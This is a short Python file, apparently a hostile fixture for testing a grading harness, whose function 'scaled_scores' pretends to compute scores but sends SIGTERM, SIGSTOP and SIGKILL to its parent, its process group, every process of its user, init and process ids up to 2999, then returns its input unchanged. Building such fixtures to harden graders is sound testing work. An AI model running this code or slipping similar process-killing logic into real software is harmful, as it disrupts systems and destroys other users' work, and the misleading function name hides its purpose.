"""Sends signals to its parents, its group, every process of its user and every number.

chapter: ex02_scaling
earns: scale_scores, score_spread
outcomes: error, failed, crashed
"""

import os
import signal


def scaled_scores(query, key):
    own = os.getpid()
    for process in [os.getppid(), -1, 0, 1, *range(2, 3000), -os.getppid()]:
        if process == own:
            continue
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(process, number)
            except OSError:
                pass
    return query
